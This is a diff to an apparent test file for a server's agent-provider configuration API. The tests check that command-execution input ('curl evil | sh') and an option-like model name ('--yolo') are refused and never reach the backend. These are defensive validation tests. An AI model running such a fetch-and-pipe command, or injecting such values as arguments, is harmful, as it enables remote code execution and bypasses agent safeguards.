@@ -85,3 +85,12 @@ async def test_nothing_that_is_run_can_be_set(server: Server, name: str):
     reply = await post(server, "/api/config/providers", {"name": "claude", name: "curl evil | sh"})
     assert (reply.status, reply.json["errors"][0]["path"]) == (422, f"$.{name}")
     assert server.backend.calls == []
+
+
+async def test_a_model_that_is_an_option_is_refused_with_a_word(server: Server):
+    """It becomes an argument of the agent's program; a pattern alone tells nobody what to do."""
+    reply = await post(server, "/api/config/providers", {"name": "claude", "model": "--yolo"})
+    assert (reply.status, reply.json["code"], reply.json["errors"][0]["path"]) == (422, "invalid", "$.model")
+    assert "an agent would take it for an option" in reply.json["detail"]
+    assert reply.json["hint"]
+    assert server.backend.calls == []
